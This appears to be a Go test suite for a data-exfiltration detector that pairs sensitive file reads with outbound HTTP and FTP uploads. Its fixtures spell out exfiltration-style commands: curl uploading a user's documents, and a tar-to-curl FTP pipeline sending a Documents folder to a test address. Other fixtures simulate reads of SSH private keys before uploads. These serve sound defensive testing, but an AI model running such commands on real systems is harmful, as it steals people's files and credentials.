package detect

import (
	"crypto/sha256"
	"net/netip"
	"strings"
	"testing"
	"time"

	"exfilwatch/attribution"
	"exfilwatch/config"
	"exfilwatch/protocols/dns"
	"exfilwatch/protocols/ftp"
	"exfilwatch/protocols/http"
	"exfilwatch/sensor/events"
)

// These tests drive the correlator with hand-made records to pin the rule's
// edges (window, lineage, pid reuse, browsers, allowlist, severity). The
// end-to-end behaviour on real recordings is tested in captures/ and in the
// live lab test of cmd/exfilwatch.

var t0 = time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)

func newTestDetector(t *testing.T, mod func(*Options)) (*Detector, *Collect) {
	t.Helper()
	cfg := config.Default()
	m, err := config.NewPathMatcherFor(cfg.SensitiveClasses("linux"), "linux")
	if err != nil {
		t.Fatal(err)
	}
	opt := Options{GOOS: "linux", Sensitive: m, MinUploadBytes: DefaultMinUploadBytes, CredentialClasses: map[string]bool{"ssh": true},
		Browsers: attribution.NewBrowserClassifier(nil, []string{"/usr/lib/chromium/chromium"})}
	if mod != nil {
		mod(&opt)
	}
	c := &Collect{}
	return New(opt, nil, c), c
}

func mkproc(pid, ppid, pgid int32, exe string, start time.Time, args ...string) *attribution.Process {
	name := exe[strings.LastIndexByte(exe, '/')+1:]
	return &attribution.Process{PID: pid, PPID: ppid, PGID: pgid, Name: name, Executable: exe, StartTime: start,
		Args: append([]string{exe}, args...)}
}

func readAt(d *Detector, p *attribution.Process, path string, at time.Time, content string) {
	fa := attribution.FileAccess{Time: at, PID: p.PID, Path: path, Access: attribution.AccessRead, Source: attribution.SourceFanotify,
		Size: int64(len(content))}
	if content != "" {
		fa.SHA256, fa.Hashed = sha256.Sum256([]byte(content)), true
	}
	d.FileAccess(fa, p)
}

var (
	client = netip.MustParseAddrPort("198.18.0.1:40000")
	server = netip.MustParseAddrPort("198.18.0.2:80")
)

func conn(p *attribution.Process, lineage ...*attribution.Process) events.Conn {
	return events.Conn{FlowID: 7, Client: client, Server: server, Transport: "tcp", Direction: "outbound",
		Attribution: &attribution.Result{Method: attribution.MethodSocketTable, Process: p, PID: p.PID, Lineage: lineage}}
}

func post(d *Detector, c events.Conn, at time.Time, body string, host string) {
	tx := &http.Transaction{Request: http.Request{Start: at, End: at.Add(10 * time.Millisecond), Method: "POST", Target: "/upload",
		Host: host, ContentLength: int64(len(body)), BodyBytes: int64(len(body)), BodyComplete: true}}
	tx.Request.BodySHA256, tx.Request.BodyHashValid = sha256.Sum256([]byte(body)), true
	d.HTTP(&events.HTTP{Conn: c, Tx: tx})
}

func body(n int) string { return strings.Repeat("x", n) }

func TestFindingForSelfReadThenUpload(t *testing.T) {
	d, out := newTestDetector(t, nil)
	curl := mkproc(100, 50, 100, "/usr/bin/curl", t0, "-F", "file=@/home/alice/Documents/report.pdf", "http://198.18.0.2/upload")
	content := body(4000)
	readAt(d, curl, "/home/alice/Documents/report.pdf", t0.Add(5*time.Millisecond), content)
	post(d, conn(curl), t0.Add(10*time.Millisecond), content, "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 1 {
		t.Fatalf("%d findings, want 1", len(out.Findings))
	}
	f := out.Findings[0]
	if f.RuleID != RuleLinux || len(f.Files) != 1 || f.Files[0].Path != "/home/alice/Documents/report.pdf" || f.Files[0].Class != "documents" {
		t.Fatalf("finding %+v", f)
	}
	for _, code := range []string{ReasonSensitiveRead, ReasonNetworkTool, ReasonContentMatch, ReasonRawIP, ReasonNewDestination} {
		if !hasReason(f, code) {
			t.Errorf("reason %s missing: %+v", code, f.Reasons)
		}
	}
	if f.Severity != SeverityCritical {
		t.Errorf("severity %s (score %d), want critical", f.Severity, f.Score)
	}
	if f.ID == "" || len(f.ID) != 24 {
		t.Errorf("id %q", f.ID)
	}
}

func hasReason(f *Finding, code string) bool {
	for _, r := range f.Reasons {
		if r.Code == code {
			return true
		}
	}
	return false
}

func TestNoFindingWithoutSensitiveRead(t *testing.T) {
	d, out := newTestDetector(t, nil)
	curl := mkproc(100, 50, 100, "/usr/bin/curl", t0)
	readAt(d, curl, "/tmp/random.bin", t0, body(10)) // not sensitive
	readAt(d, curl, "/home/alice/Documentsx/a", t0, body(10))
	post(d, conn(curl), t0.Add(time.Second), body(5000), "example.org")
	d.Flush()
	if len(out.Findings) != 0 || d.Stats().NoSensitive != 1 {
		t.Fatalf("findings %d, stats %+v", len(out.Findings), d.Stats())
	}
}

func TestWindow(t *testing.T) {
	d, out := newTestDetector(t, func(o *Options) { o.Window = 3 * time.Second })
	py := mkproc(100, 50, 100, "/usr/bin/python3", t0, "/tmp/x.py")
	readAt(d, py, "/home/alice/Documents/notes.txt", t0, "secret")
	post(d, conn(py), t0.Add(8*time.Second), body(2000), "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 0 {
		t.Fatalf("a read 8 s before the upload made a finding with a 3 s window")
	}
	readAt(d, py, "/home/alice/Documents/notes.txt", t0.Add(9*time.Second), "secret")
	post(d, conn(py), t0.Add(11*time.Second), body(2000), "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 1 {
		t.Fatalf("%d findings, want 1 (read 2 s before)", len(out.Findings))
	}
	if f := out.Findings[0]; !hasReason(f, ReasonInterpreter) || f.Script == nil || f.Script.Path != "/tmp/x.py" || !hasReason(f, ReasonTemporary) {
		t.Errorf("interpreter/script: %+v %+v", f.Reasons, f.Script)
	}
}

func TestUploadBelowMinimumIsNotAnUpload(t *testing.T) {
	d, out := newTestDetector(t, nil)
	curl := mkproc(100, 50, 100, "/usr/bin/curl", t0)
	readAt(d, curl, "/home/alice/.ssh/id_rsa", t0, "k")
	post(d, conn(curl), t0.Add(time.Second), body(1023), "h")
	d.Flush()
	if len(out.Findings) != 0 || d.Stats().Uploads != 0 {
		t.Fatalf("1023-byte body judged as an upload")
	}
}

func TestBrowserLeftAlone(t *testing.T) {
	d, out := newTestDetector(t, nil)
	chrome := mkproc(100, 50, 100, "/usr/lib/chromium/chromium", t0)
	readAt(d, chrome, "/home/alice/Documents/report.pdf", t0, body(3000))
	post(d, conn(chrome), t0.Add(time.Second), body(3000), "upload.example")
	// The same program name elsewhere is not a browser.
	fake := mkproc(200, 50, 200, "/tmp/chromium", t0)
	readAt(d, fake, "/home/alice/Documents/report.pdf", t0, body(3000))
	c := conn(fake)
	c.FlowID = 8
	post(d, c, t0.Add(time.Second), body(3000), "upload.example")
	d.Flush()
	if len(out.Findings) != 1 || out.Findings[0].Process.PID != 200 || d.Stats().Browser != 1 {
		t.Fatalf("findings %d, stats %+v", len(out.Findings), d.Stats())
	}
}

func TestPipelineSiblingsAndPIDReuse(t *testing.T) {
	d, out := newTestDetector(t, nil)
	sh := mkproc(10, 1, 10, "/bin/sh", t0, "-c", "tar cf - Documents | curl -T - ftp://198.18.0.2/up/docs.tar")
	tar := mkproc(11, 10, 10, "/usr/bin/tar", t0.Add(time.Millisecond), "cf", "-", "Documents")
	curl := mkproc(12, 10, 10, "/usr/bin/curl", t0.Add(time.Millisecond), "-T", "-", "ftp://198.18.0.2/up/docs.tar")
	readAt(d, tar, "/home/alice/Documents/a.txt", t0.Add(2*time.Millisecond), "a")
	readAt(d, tar, "/home/alice/Documents/b.txt", t0.Add(3*time.Millisecond), "b")
	// An unrelated process in another group with the same parent pid
	// number but a different group reads something: not a sibling.
	other := mkproc(13, 10, 99, "/usr/bin/cat", t0.Add(time.Millisecond))
	readAt(d, other, "/home/alice/.ssh/id_rsa", t0.Add(2*time.Millisecond), "k")
	tr := &ftp.Transfer{Command: "STOR", Filename: "docs.tar", Upload: true, BytesToServer: 20480,
		Start: t0.Add(4 * time.Millisecond), End: t0.Add(50 * time.Millisecond), CommandStart: t0.Add(5 * time.Millisecond)}
	d.FTPData(&events.FTPData{Conn: conn(curl, sh), Control: conn(curl, sh), T: tr})
	d.Flush()
	if len(out.Findings) != 1 {
		t.Fatalf("%d findings", len(out.Findings))
	}
	f := out.Findings[0]
	if len(f.Files) != 2 || f.Files[0].Relation != RelSibling || f.Files[0].PID != 11 || !hasReason(f, ReasonLineageRead) || hasReason(f, ReasonCredential) {
		t.Fatalf("files %+v reasons %+v", f.Files, f.Reasons)
	}

	// pid 12 reused by a new process that read nothing: no finding.
	curl2 := mkproc(12, 10, 10, "/usr/bin/curl", t0.Add(time.Hour))
	tr2 := *tr
	tr2.Start, tr2.End, tr2.CommandStart = t0.Add(time.Hour+time.Second), t0.Add(time.Hour+2*time.Second), t0.Add(time.Hour+time.Second)
	d.FTPData(&events.FTPData{Conn: conn(curl2), Control: conn(curl2), T: &tr2})
	d.Flush()
	if len(out.Findings) != 1 {
		t.Fatalf("a reused pid inherited another process's reads")
	}
}

func TestShellHistoryReadByShellIgnored(t *testing.T) {
	d, out := newTestDetector(t, nil)
	bash := mkproc(10, 1, 10, "/usr/bin/bash", t0)
	curl := mkproc(12, 10, 12, "/usr/bin/curl", t0.Add(time.Second))
	readAt(d, bash, "/home/alice/.bash_history", t0, "ls")
	post(d, conn(curl, bash), t0.Add(2*time.Second), body(5000), "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 0 {
		t.Fatalf("a shell reading its own history made its child's upload a finding")
	}
}

func TestAllowlistSuppresses(t *testing.T) {
	allow, err := NewAllowlist([]config.AllowEntry{{Executable: "/opt/backup/bin/backup", Destinations: config.StringList{"198.18.0.0/24"}, Reason: "nightly"}}, "linux")
	if err != nil {
		t.Fatal(err)
	}
	d, out := newTestDetector(t, func(o *Options) { o.Allow = allow })
	b := mkproc(100, 1, 100, "/opt/backup/bin/backup", t0)
	readAt(d, b, "/home/alice/Documents/report.pdf", t0, body(3000))
	post(d, conn(b), t0.Add(time.Second), body(3000), "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 0 || d.Stats().Allowlisted != 1 || d.Stats().ByAllowRule["allowlist[0]"] != 1 {
		t.Fatalf("findings %d stats %+v", len(out.Findings), d.Stats())
	}
}

func TestBoundsCount(t *testing.T) {
	d, _ := newTestDetector(t, func(o *Options) { o.MaxProcesses = 4; o.MaxReadsPerProcess = 2 })
	for i := range 10 {
		p := mkproc(int32(100+i), 1, 1, "/usr/bin/cat", t0)
		for j := range 3 {
			readAt(d, p, "/home/alice/Documents/f", t0.Add(time.Duration(j)*time.Millisecond), "")
		}
	}
	st := d.Stats()
	if st.ProcessesEvicted != 6 || st.ReadsDropped != 10 {
		t.Fatalf("stats %+v", st)
	}
}

func TestAllowlistHostGlobNeedsDNS(t *testing.T) {
	allow, err := NewAllowlist([]config.AllowEntry{{Executable: "/usr/bin/rsync", Destinations: config.StringList{"*.backup.example.com"}}}, "linux")
	if err != nil {
		t.Fatal(err)
	}
	d, out := newTestDetector(t, func(o *Options) { o.Allow = allow })
	rs := mkproc(100, 1, 100, "/usr/bin/rsync", t0)
	readAt(d, rs, "/home/alice/Documents/report.pdf", t0, body(3000))
	// The Host header names the allowlisted domain, but nothing says the
	// address is that domain's: not suppressed.
	post(d, conn(rs), t0.Add(time.Second), body(3000), "nas.backup.example.com")
	d.Flush()
	if len(out.Findings) != 1 || out.Findings[0].DestinationName != "nas.backup.example.com" {
		t.Fatalf("a Host header alone satisfied a host glob: %d findings", len(out.Findings))
	}
	// A DNS answer seen in the traffic ties the address to the name.
	d.DNS(&events.DNS{Time: t0, Response: dns.Response{QName: "nas.backup.example.com",
		Answers: []dns.Answer{{Name: "nas.backup.example.com", Type: dns.TypeA, TTL: 60, Addr: server.Addr()}}}})
	readAt(d, rs, "/home/alice/Documents/report.pdf", t0.Add(2*time.Second), body(3000))
	c := conn(rs)
	c.FlowID = 9
	post(d, c, t0.Add(3*time.Second), body(3000), "nas.backup.example.com")
	d.Flush()
	if len(out.Findings) != 1 || d.Stats().Allowlisted != 1 {
		t.Fatalf("DNS-confirmed name not allowlisted: findings %d stats %+v", len(out.Findings), d.Stats())
	}
}

func TestReloadKeepsHistory(t *testing.T) {
	d, out := newTestDetector(t, nil)
	b := mkproc(100, 1, 100, "/opt/backup/bin/backup", t0)
	readAt(d, b, "/home/alice/Documents/report.pdf", t0, body(3000))
	post(d, conn(b), t0.Add(time.Second), body(3000), "198.18.0.2")
	// The upload waits to be judged; the allowlist arrives (SIGHUP) first.
	allow, err := NewAllowlist([]config.AllowEntry{{Executable: "/opt/backup/bin/backup"}}, "linux")
	if err != nil {
		t.Fatal(err)
	}
	opt := d.opt
	opt.Allow = allow
	d.Reload(opt)
	d.Flush()
	if len(out.Findings) != 0 || d.Stats().Allowlisted != 1 {
		t.Fatalf("the reloaded allowlist did not apply to the pending upload: %d findings", len(out.Findings))
	}
	// The read is still remembered: without the allowlist it is a finding.
	opt.Allow = nil
	d.Reload(opt)
	c := conn(b)
	c.FlowID = 11
	post(d, c, t0.Add(2*time.Second), body(3000), "198.18.0.2")
	d.Flush()
	if len(out.Findings) != 1 {
		t.Fatalf("history lost on reload: %d findings", len(out.Findings))
	}
}

func TestRequestNoticeJudgesOnce(t *testing.T) {
	d, out := newTestDetector(t, nil)
	curl := mkproc(100, 50, 100, "/usr/bin/curl", t0)
	readAt(d, curl, "/home/alice/Documents/report.pdf", t0, body(3000))
	tx := &http.Transaction{Request: http.Request{Start: t0.Add(time.Second), End: t0.Add(time.Second), Method: "PUT", Target: "/x",
		ContentLength: 3000, BodyBytes: 3000, BodyComplete: true}}
	ev := &events.HTTP{Conn: conn(curl), Tx: tx}
	d.HTTPRequest(ev) // the body ended; the server has not answered
	d.Tick(t0.Add(time.Second + DefaultSettle))
	if len(out.Findings) != 1 {
		t.Fatalf("no finding from the request notice: %d", len(out.Findings))
	}
	d.HTTP(ev) // the response came: the same transaction is not judged again
	d.Flush()
	if len(out.Findings) != 1 || d.Stats().Uploads != 1 {
		t.Fatalf("judged twice: %d findings, stats %+v", len(out.Findings), d.Stats())
	}
}

func TestDestinationMemoryBound(t *testing.T) {
	st := &Stats{}
	m := newDestMemory(2, st)
	if !m.observe("curl", "a") || !m.observe("curl", "b") || m.observe("curl", "a") {
		t.Fatal("first sightings must be new, a repeat not")
	}
	m.observe("curl", "c") // evicts b, the least recently used
	if st.DestsEvicted != 1 || m.observe("curl", "a") || !m.observe("curl", "b") {
		t.Fatalf("LRU eviction wrong: %+v", st)
	}
}
